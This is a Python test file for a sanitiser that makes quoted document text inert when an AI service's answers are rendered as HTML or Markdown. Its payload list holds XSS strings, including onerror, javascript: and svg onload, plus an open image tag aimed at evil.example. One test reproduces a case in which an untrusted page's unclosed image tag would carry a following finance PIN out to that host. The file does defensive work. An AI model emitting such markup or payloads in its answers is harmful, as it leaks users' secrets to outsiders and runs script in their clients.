"""Quoted document text stays text in a client that renders answers as HTML or Markdown, and reads as it did."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.generation.inert import ZERO_WIDTH_SPACE, inert_quotes

pytestmark = pytest.mark.unit

PIECES = [
    "Create a new branch named <new-branch> starting at <start-point>.",
    '<img src="https://evil.example/c?d=',
    "<img src=x onerror=alert(1)>",
    "<iframe src=//evil.example>",
    "<a href='javascript:alert(1)'>click</a>",
    "<svg onload=alert(1)>",
    "![pixel](https://evil.example/p.png)",
    "[c](javascript:alert(1))",
    "<script>window.x=1</script>",
    "<!-- hidden -->",
    " [1]\n",
    "The VPN token reset PIN for the finance vault is 4471-9920.",
    '">',
    "a < b",
    "git <https://git-scm.com>",
    "<b>bold</b>",
    "<",
    "img",
    " src=",
    "data:text/html,<x>",
]


def rendered(text: str) -> BeautifulSoup:
    renderer = MarkdownIt("commonmark", {"linkify": True, "html": True}).enable(["linkify"])
    return BeautifulSoup(renderer.render(text), "html.parser")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_no_joined_quotes_render_into_something_active(parts: list[str]) -> None:
    soup = rendered(inert_quotes("".join(parts)))
    for tag in soup.find_all(True):
        assert tag.name not in {"img", "iframe", "script", "svg", "object", "embed", "form", "video", "audio"}, tag
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), tag
            assert name.lower() != "src", tag
            assert not str(value).lower().replace(ZERO_WIDTH_SPACE, "").startswith(("javascript:", "data:")), tag


def test_the_cross_document_exfiltration_is_text() -> None:
    # An outsider's page ends in an open image tag; the next quote is a finance-only secret (the reviewer's case).
    answer = 'steps <img src="https://evil.example/c?d= [2]\nThe VPN token reset PIN for the vault is 4471-9920. [1]'
    assert not rendered(inert_quotes(answer)).find_all("img")


def test_placeholders_and_prose_read_as_they_did() -> None:
    for text in (
        "Create a new branch named <new-branch> starting at <start-point> before switching to the branch.",
        "git diff [<options>] --cached [<commit>] [--] [<path>…]",
        "If a < b and c > d, see https://git-scm.com/docs for more.",
    ):
        assert inert_quotes(text) == text
